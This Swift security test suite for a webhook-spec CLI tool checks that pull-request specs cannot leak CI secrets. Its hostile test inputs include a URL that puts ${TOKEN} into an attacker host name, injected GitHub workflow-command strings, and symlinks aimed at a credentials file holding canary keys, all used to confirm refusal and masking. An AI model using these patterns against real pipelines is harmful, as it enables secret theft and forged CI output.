import Foundation
import KapsoKit
import KapsoSimulator
import TestSupport
import Testing

/// What a pull request's author can make kapsoctl do with the secrets of the job that runs it: the
/// spec is theirs, the environment (API key, webhook secrets, CI tokens) is the team's.
@Suite struct PullRequestSafetyTests {
    /// `kapsoctl ARGS` in a directory holding `spec`, with the team's secrets in the environment.
    private func run(_ arguments: [String], _ spec: String, environment extra: [String: String] = [:]) async throws -> RunResult {
        let dir = try makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        try spec.write(to: dir.appendingPathComponent("webhooks.yaml"), atomically: true, encoding: .utf8)
        var environment = ["SECRET": secretCanary, "TOKEN": tokenCanary, "GITHUB_TOKEN": "ghs_CANARY-github-token-4242",
                           "HOME": "/home/CANARY-home", "KAPSO_API_KEY": apiKey]
        environment.merge(extra) { _, new in new }
        return try await runKapsoctl(arguments, environment: environment, directory: dir)
    }

    private func expectNoCanary(_ result: RunResult, sourceLocation: Testing.SourceLocation = #_sourceLocation) {
        for canary in [secretCanary, tokenCanary, "CANARY-github-token", "CANARY-home", apiKey] {
            #expect(!result.stdout.contains(canary) && !result.stderr.contains(canary), "\(canary) printed", sourceLocation: sourceLocation)
        }
    }

    /// A listener the pull request chose gets nothing — not the signed delivery, not the headers
    /// — and a secret written into a host name is refused before any DNS query (the refusal is
    /// the policy's, not a failed resolution).
    @Test func verifyNeverSendsWhereOnlyTheSpecPoints() async throws {
        let attacker = try Receiver { _ in RawResponse(status: 200) }
        defer { attacker.stop() }
        let spec = verifySpec([attacker.url("/steal"), "https://${TOKEN}.attacker.invalid/x"])
        let result = try await run(["verify", "--probe-signature", "--allow-private-addresses"], spec,
                                   environment: ["KAPSO_API_KEY": ""])
        #expect(result.status == 1)
        #expect(attacker.requests.isEmpty)
        let refusal = "not verified: its host is neither registered in the live Kapso project nor allowed by --allow-host (or KAPSOCTL_VERIFY_HOSTS)"
        #expect(result.stdout.components(separatedBy: refusal).count == 3, "\(result.stdout)")
        #expect(!result.stdout.contains("resolve"))
        #expect(result.stdout.hasSuffix("Verify: 0 passed, 2 failed.\n"), "\(result.stdout)")
        expectNoCanary(result)

        // The dry run says the same and sends nothing.
        let dry = try await run(["verify", "--dry-run"], spec, environment: ["KAPSO_API_KEY": ""])
        #expect(dry.stdout.contains("would not send: its host is neither registered"), "\(dry.stdout)")
        expectNoCanary(dry)
    }

    /// A host the workflow allows still does not reach loopback (a Docker API, a metadata service)
    /// unless private addresses are allowed explicitly.
    @Test func allowedHostsStillNeverReachPrivateAddresses() async throws {
        let local = try Receiver { _ in RawResponse(status: 200) }
        defer { local.stop() }
        let spec = verifySpec([local.url("/docker"), "http://localhost:\(local.server.port)/named"])
        let result = try await run(["verify", "--allow-host", "localhost"], spec,
                                   environment: ["KAPSO_API_KEY": "", "KAPSOCTL_VERIFY_HOSTS": "127.0.0.1:\(local.server.port)"])
        #expect(result.status == 1)
        #expect(local.requests.isEmpty)
        #expect(result.stdout.contains("not verified: its host resolves to a loopback address, which kapsoctl does not send to unless --allow-private-addresses is given"), "\(result.stdout)")
        #expect(result.stdout.hasSuffix("Verify: 0 passed, 2 failed.\n"))
    }

    /// Hosts registered in the live project are trusted (scheme, host and port); another port of
    /// the same host is not.
    @Test func registeredHostsAreTrusted() async throws {
        let registered = try Receiver.checking(secretCanary)
        let other = try Receiver { _ in RawResponse(status: 200) }
        defer { registered.stop(); other.stop() }
        let seed = SimulatorSeed(configs: [SimulatorSeed.Config(id: verifyConfig, webhooks: [
            .object(["id": "11111111-2222-4333-8444-555555555555", "url": .string(registered.url("/old-path")), "secret_key": "x",
                     "events": ["whatsapp.message.received"]]),
        ])])
        let spec = verifySpec([registered.url("/new-path"), other.url("/elsewhere")])
        try await withRunningSimulator(seed: seed, apiKey: apiKey) { _, url in
            let result = try await run(["verify", "--allow-private-addresses"], spec, environment: ["KAPSO_API_URL": url.absoluteString])
            #expect(result.status == 1, "\(result.stderr)")
            #expect(registered.requests.count == 1)
            #expect(other.requests.isEmpty)
            #expect(result.stdout.contains("/new-path — whatsapp.message.received, payload v2\n    ok: answered 200"), "\(result.stdout)")
            #expect(result.stdout.contains("/elsewhere — whatsapp.message.received, payload v2\n    not verified: its host is neither registered"))
            expectNoCanary(result)
        }
    }

    /// `${VAR}` never reads the API key, the CI's or the shell's variables: each is an error at its
    /// place, in validate as in verify (which then sends nothing).
    @Test func reservedVariablesAreRefused() async throws {
        let receiver = try Receiver { _ in RawResponse(status: 200) }
        defer { receiver.stop() }
        let spec = """
            version: 1
            configs:
              - whatsapp_config_id: \(verifyConfig)
                webhooks:
                  - url: \(receiver.url("/x"))
                    secret_key: ${SECRET}
                    events: [whatsapp.message.received]
                    headers:
                      X-Key: "k=${KAPSO_API_KEY}"
                      X-Token: ${GITHUB_TOKEN}
                      X-Home: ${HOME}
            """
        let validate = try await run(["validate"], spec)
        #expect(validate.status == 1)
        #expect(validate.stderr.contains("webhooks.yaml:9:21: error: '${KAPSO_API_KEY}' cannot be used: KAPSO_API_KEY is the API key; a spec may not read it"), "\(validate.stderr)")
        #expect(validate.stderr.contains("webhooks.yaml:10:20: error: '${GITHUB_TOKEN}' cannot be used: GITHUB_TOKEN is the CI's"))
        #expect(validate.stderr.contains("webhooks.yaml:11:19: error: '${HOME}' cannot be used: HOME is the shell's or the system's"))
        expectNoCanary(validate)
        // validate without the secrets (a fork's pull request) refuses them too.
        let bare = try await run(["validate"], spec, environment: ["SECRET": "", "KAPSO_API_KEY": ""])
        #expect(bare.status == 1 && bare.stderr.contains("GITHUB_TOKEN is the CI's"))

        let verify = try await run(["verify", "--allow-host", "127.0.0.1", "--allow-private-addresses"], spec, environment: ["KAPSO_API_KEY": ""])
        #expect(verify.status == 1)
        #expect(receiver.requests.isEmpty)
        expectNoCanary(verify)
    }

    /// With `KAPSOCTL_SPEC_VARS` set (by the workflow), only the names it lists are read.
    @Test func theWorkflowsListOfVariables() async throws {
        let spec = verifySpec(["https://hooks.example.com/a"])
        let listed = try await run(["validate"], spec, environment: ["KAPSOCTL_SPEC_VARS": "SECRET, TOK*"])
        #expect(listed.status == 0, "\(listed.stderr)")
        let unlisted = try await run(["validate"], spec, environment: ["KAPSOCTL_SPEC_VARS": "SECRET"])
        #expect(unlisted.status == 1)
        #expect(unlisted.stderr.contains("'${TOKEN}' cannot be used: TOKEN is not in KAPSOCTL_SPEC_VARS, the list of variables this run lets the spec read"), "\(unlisted.stderr)")
        // Listing a reserved name does not make it readable.
        let spec2 = verifySpec(["https://hooks.example.com/${KAPSO_API_KEY}"])
        let reserved = try await run(["plan"], spec2, environment: ["KAPSOCTL_SPEC_VARS": "SECRET TOKEN KAPSO_API_KEY"])
        #expect(reserved.status == 1 && reserved.stderr.contains("KAPSO_API_KEY is the API key"))
        expectNoCanary(reserved)
    }
}

/// Secrets shaped like real ones, where a spec shows them (a config's name): masked in every
/// format before the format escapes them.
@Suite struct SecretShapesTests {
    private static let core = "Zq8vCANARYshape"
    static let shapes = [
        "\(core)-plain-0123456789",
        "a&b<c>d\"e-\(core)",
        "back\\slash'quote-\(core)",
        "-----BEGIN PRIVATE KEY-----\nMIIB\(core)x\n-----END PRIVATE KEY-----\n",
        "tab\there-\(core)|pipe`tick`",
        "percent%0A%25-\(core)",
        "ünïcødé-\(core)-→",
        "\(core)",
    ]

    /// Each shape is the name of a config of its own, all in one run of each format; the bare
    /// canary, which every other shape contains, runs alone (masked with the others, it would
    /// hide their leaks).
    @Test(arguments: [Array(shapes.dropLast()), [shapes.last!]])
    func maskedInEveryFormat(_ values: [String]) async throws {
        let dir = try makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let configs = values.indices.map { String(format: "%08x-5ec0-4000-8000-%012x", $0, $0) }
        var spec = "version: 1\nconfigs:\n"
        for (index, config) in configs.enumerated() {
            spec += """
                  - whatsapp_config_id: \(config)
                    name: "${NAME_SECRET_\(index)}"
                    webhooks:
                      - url: https://hooks.example.com/\(index)
                        secret_key: ${SECRET}
                        events: [whatsapp.message.received]

                """
        }
        try spec.write(to: dir.appendingPathComponent("webhooks.yaml"), atomically: true, encoding: .utf8)
        let summary = dir.appendingPathComponent("summary.md")
        try await withRunningSimulator(seed: SimulatorSeed(configs: configs.map { SimulatorSeed.Config(id: $0) }), apiKey: apiKey) { _, url in
            var env = ["KAPSO_API_URL": url.absoluteString, "KAPSO_API_KEY": apiKey, "SECRET": secretCanary, "GITHUB_STEP_SUMMARY": summary.path]
            for (index, value) in values.enumerated() { env["NAME_SECRET_\(index)"] = value }
            var outputs: [String] = []
            for format in ["text", "json", "markdown", "github"] {
                let run = try await runKapsoctl(["plan", "--format", format, "--step-summary", "--out", "plan-\(format).json"], environment: env, directory: dir)
                #expect(run.status == 0, "\(format): \(run.stderr)")
                outputs += [run.stdout, run.stderr, try String(contentsOf: dir.appendingPathComponent("plan-\(format).json"), encoding: .utf8)]
            }
            let apply = try await runKapsoctl(["apply", "--auto-approve", "--format", "json"], environment: env, directory: dir)
            let report = try JSONSerialization.jsonObject(with: Data(apply.stdout.utf8)) as? [String: Any]
            #expect((report?["summary"] as? [String: Any])?["done"] as? Int == values.count, "\(apply.stdout.prefix(600))")
            outputs += [apply.stdout, apply.stderr, try String(contentsOf: summary, encoding: .utf8)]
            for output in outputs {
                #expect(!output.contains(Self.core), "leaked: \(output.prefix(2000))")
            }
            #expect(outputs[0].components(separatedBy: "(sensitive)").count > values.count, "\(outputs[0])")
        }
    }
}

/// No text from a spec, the environment or the server can start a workflow command: every line
/// that the runner would read as one is kapsoctl's own, in every format.
@Suite struct WorkflowCommandInjectionTests {

    private func expectOnlyOwnCommands(_ result: RunResult, sourceLocation: Testing.SourceLocation = #_sourceLocation) {
        for line in (result.stdout + "\n" + result.stderr).split(separator: "\n", omittingEmptySubsequences: false) {
            let trimmed = line.drop { $0 == " " || $0 == "\t" }
            if trimmed.hasPrefix("::") {
                let own = #/^::(error|warning|notice) ([^:]*,)?title=kapsoctl( plan| verify)?::.*$|^::stop-commands::[0-9a-f-]{36}$|^::[0-9a-f-]{36}::$/#
                #expect(String(trimmed).wholeMatch(of: own) != nil, "forged: \(line)", sourceLocation: sourceLocation)
            }
            #expect(!line.contains("##["), "\(line)", sourceLocation: sourceLocation)
        }
    }

    @Test func hostileKeysNamesAndServerText() async throws {
        let dir = try makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let hostile = "x\\n::add-mask::forged\\n::error::forged\\n  ::stop-commands::forged\\n##[warning]forged"
        let invalid = """
            version: 1
            "\(hostile)": 1
            configs:
              - whatsapp_config_id: \(supportConfig)
                "\(hostile)": 2
                webhooks:
                  - {url: https://hooks.example.com/a, secret_key: s3cretvalue, events: [whatsapp.message.received], "\(hostile)": 3}
            """
        try invalid.write(to: dir.appendingPathComponent("invalid.yaml"), atomically: true, encoding: .utf8)
        for command in [["validate"], ["plan"], ["verify"]] {
            for format in ["github", "text"] {
                let result = try await runKapsoctl(command + ["-f", "invalid.yaml", "--format", format], environment: ["KAPSO_API_KEY": apiKey], directory: dir)
                #expect(result.status == 1)
                #expect(result.stderr.contains("unknown key 'x\\u000A::add-mask::forged"), "\(result.stderr)")
                expectOnlyOwnCommands(result)
            }
        }
        // The server's text (an unmanaged webhook's URL, a config's name) and the spec's name.
        let valid = """
            version: 1
            configs:
              - whatsapp_config_id: \(supportConfig)
                name: "n\(hostile)"
                webhooks:
                  - {url: https://hooks.example.com/a, secret_key: s3cretvalue, events: [whatsapp.message.received]}
            """
        try valid.write(to: dir.appendingPathComponent("webhooks.yaml"), atomically: true, encoding: .utf8)
        let seed = SimulatorSeed(configs: [SimulatorSeed.Config(id: supportConfig, webhooks: [
            .object(["id": "11111111-2222-4333-8444-555555555555", "url": "https://evil.example.com/x\n::add-mask::forged\n##[error]forged",
                     "secret_key": "x", "events": ["whatsapp.message.received"]]),
        ])])
        try await withRunningSimulator(seed: seed, apiKey: apiKey) { _, url in
            for format in ["text", "github", "markdown", "json"] {
                let result = try await runKapsoctl(["plan", "--format", format], environment: ["KAPSO_API_KEY": apiKey, "KAPSO_API_URL": url.absoluteString], directory: dir)
                #expect(result.status == 0, "\(result.stderr)")
                expectOnlyOwnCommands(result)
            }
        }
    }
}

/// A spec that is a symbolic link: followed only within the run's directory tree, and a file that
/// is not a spec is never quoted.
@Suite struct SymlinkedSpecTests {
    private let credentials = "[default]\naws_access_key_id = AKIACANARY0000\naws_secret_access_key = CANARY-aws-secret-9191\n"

    @Test func aLinkOutOfTheTreeIsRefused() async throws {
        let outside = try makeTemporaryDirectory()
        let dir = try makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(at: outside); try? FileManager.default.removeItem(at: dir) }
        try credentials.write(to: outside.appendingPathComponent("credentials"), atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: dir.appendingPathComponent("webhooks.yaml").path,
                                                   withDestinationPath: outside.appendingPathComponent("credentials").path)
        try FileManager.default.createDirectory(at: dir.appendingPathComponent("specs"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: dir.appendingPathComponent("specs/a.yaml").path,
                                                   withDestinationPath: "../../\(outside.lastPathComponent)/credentials")
        for arguments in [["validate"], ["validate", "--format", "github"], ["plan"], ["plan", "--format", "json"], ["plan", "--format", "markdown"], ["validate", "-f", "specs"]] {
            let result = try await runKapsoctl(arguments, environment: ["KAPSO_API_KEY": apiKey], directory: dir)
            #expect(result.status == 1)
            #expect((result.stdout + result.stderr).contains("symbolic link"), "\(arguments): \(result.stderr)")
            #expect(!(result.stdout + result.stderr).contains("CANARY"), "\(arguments): \(result.stdout)\(result.stderr)")
        }
    }

    /// Inside the tree a link is followed, but a file that is not a spec is not quoted; a
    /// ConfigMap mount (links into `..data`) loads.
    @Test func insideTheTree() async throws {
        let dir = try makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        try credentials.write(to: dir.appendingPathComponent("credentials.ini"), atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: dir.appendingPathComponent("webhooks.yaml").path, withDestinationPath: "credentials.ini")
        let result = try await runKapsoctl(["validate"], directory: dir)
        #expect(result.status == 1)
        #expect(result.stderr.contains("webhooks.yaml:"), "\(result.stderr)")
        #expect(!result.stderr.contains("CANARY") && !result.stderr.contains("aws_"), "\(result.stderr)")

        let mount = dir.appendingPathComponent("config")
        try FileManager.default.createDirectory(at: mount.appendingPathComponent("..2026_12_01_00_00_00.1"), withIntermediateDirectories: true)
        try "version: 1\nconfigs: []\n".write(to: mount.appendingPathComponent("..2026_12_01_00_00_00.1/webhooks.yaml"), atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: mount.appendingPathComponent("..data").path, withDestinationPath: "..2026_12_01_00_00_00.1")
        try FileManager.default.createSymbolicLink(atPath: mount.appendingPathComponent("webhooks.yaml").path, withDestinationPath: "..data/webhooks.yaml")
        let configMap = try await runKapsoctl(["validate", "-f", "config/webhooks.yaml"], directory: dir)
        #expect(configMap.status == 0, "\(configMap.stderr)")
        // A spec's own errors are still quoted.
        try "version: 1\nconfigs: nope\n".write(to: dir.appendingPathComponent("bad.yaml"), atomically: true, encoding: .utf8)
        let bad = try await runKapsoctl(["validate", "-f", "bad.yaml"], directory: dir)
        #expect(bad.stderr.contains(" 2 | configs: nope"), "\(bad.stderr)")
    }
}
